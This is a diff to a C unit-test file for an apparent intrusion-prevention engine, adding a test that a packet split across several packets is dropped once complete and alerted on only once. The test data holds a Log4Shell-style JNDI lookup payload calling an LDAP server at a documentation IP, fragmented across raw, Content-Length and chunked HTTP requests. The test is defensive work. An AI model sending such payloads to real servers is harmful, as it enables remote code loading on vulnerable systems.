@@ -160,6 +160,7 @@ static void begin(struct scene *s, const char *rule_text)
                    .open_tx = 16},
         .kept_field_bytes = 1024,
         .kept_tx_bytes = 65536,
+        .block = {.enforces = true},
         .file_hash = "sha1",
         .sightings = {on_sighting, s},
     };
@@ -255,6 +256,37 @@ static void a_finding_is_made_when_its_field_is_complete(void)
     end(&s);
     CU_ASSERT_EQUAL(count(ALERT), 1);
     CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+}
+
+/* A verdict is wanted of each packet: what waits for more bytes is judged as it is. */
+static void what_waits_for_its_end_is_judged_before_its_packet_goes_on(void)
+{
+    static const struct {
+        const char *start; /* bytes that no attack is in yet */
+        const char *rest;  /* bytes that complete it; the body goes on behind them */
+    } rows[] = {
+        {"some protocol\r\n${jndi:ldap://203", ".0.113.9/a} and more\r\n"},
+        {"POST /x HTTP/1.1\r\nContent-Length: 9999\r\n\r\n{\"a\":\"${jndi:ldap://203.0.113.9/a",
+         "}\","},
+        {"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
+         "1f\r\n123456${jndi:ldap://203.0.113.9",
+         "\r\n4\r\n/ab}\r\n"},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        struct scene s;
+        begin(&s, drop_rules);
+        give(&s, TO_SERVER, rows[i].start);
+        s.user.ops->judge(s.user.ctx, &s.conn);
+        CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_PASS);
+        s.conn.number++;
+        give(&s, TO_SERVER, rows[i].rest);
+        s.user.ops->judge(s.user.ctx, &s.conn);
+        CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP);
+        CU_ASSERT_EQUAL(s.conn.blocked_number, s.conn.number);
+        end(&s);
+        CU_ASSERT_EQUAL(count(ALERT), 1); /* it is not found again at the end */
+        CU_ASSERT_EQUAL(count("\"action\":\"blocked\""), 1);
+    }
 }
 
 static void an_alert_waits_for_the_answer_but_not_for_ever(void)
@@ -586,6 +618,8 @@ static CU_TestInfo tests[] = {
     {"what_reads_a_flow_goes_when_both_directions_ended",
      what_reads_a_flow_goes_when_both_directions_ended},
     {"a_finding_is_made_when_its_field_is_complete", a_finding_is_made_when_its_field_is_complete},
+    {"what_waits_for_its_end_is_judged_before_its_packet_goes_on",
+     what_waits_for_its_end_is_judged_before_its_packet_goes_on},
     {"an_alert_waits_for_the_answer_but_not_for_ever",
      an_alert_waits_for_the_answer_but_not_for_ever},
     {"a_body_in_pieces_is_looked_at_as_one", a_body_in_pieces_is_looked_at_as_one},
